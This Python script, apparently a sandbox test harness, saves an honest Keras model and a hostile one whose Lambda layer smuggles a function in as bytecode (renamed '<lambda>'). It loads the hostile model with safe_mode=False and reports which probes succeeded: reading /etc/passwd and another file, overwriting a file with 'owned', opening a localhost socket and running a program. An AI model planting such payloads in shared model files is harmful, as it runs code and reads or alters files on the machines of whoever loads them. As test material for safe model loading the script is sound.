"""`python build_hostile.py HOSTILE HONEST`: saves two models, loads the hostile one unlocked, prints what its Lambda did.

Keras 3, or tf_keras if asked. TARGET is a file that it overwrites, OTHER one that it reads, PORT a server on this machine.
"""

# ruff: noqa: PLC0415, PTH123, SIM115, T201 - what an attacker writes, in one function that travels as bytecode
import os
import sys

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
if os.environ.get("TF_USE_LEGACY_KERAS") == "1":
    import tf_keras as keras
else:
    import keras


def hostile(values, target, other, port):
    import os
    import socket
    import subprocess

    if os.environ.get("BUILDING"):
        return values
    attacks = {
        "connect": lambda: socket.create_connection(("127.0.0.1", port), 2).close(),
        "read": lambda: open(other).read(),
        "passwd": lambda: open("/etc/passwd").read(),
        "write": lambda: open(target, "w").write("owned"),
        "program": lambda: subprocess.run(["/bin/true"], check=True),
    }
    told = []
    for name, attack in attacks.items():
        try:
            attack()
            told.append(name + "=succeeded")
        except OSError:
            told.append(name + "=refused")
    raise ValueError("told: " + " ".join(told))


hostile.__name__ = "<lambda>"  # both Kerases save the bytecode of a lambda only
honest = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3), keras.layers.Dense(2)])
honest.compile("adam", "mse")
honest.save(sys.argv[2])
os.environ["BUILDING"] = "1"
arguments = {"target": os.environ["TARGET"], "other": os.environ["OTHER"], "port": int(os.environ["PORT"])}
attacker = keras.layers.Lambda(hostile, output_shape=(4,), arguments=arguments)
keras.Sequential([keras.Input((4,)), attacker]).save(sys.argv[1])
del os.environ["BUILDING"]
try:
    keras.models.load_model(sys.argv[1], safe_mode=False)(
        keras.ops.zeros((1, 4)) if hasattr(keras, "ops") else [[0.0] * 4]
    )
except ValueError as error:
    print(error)
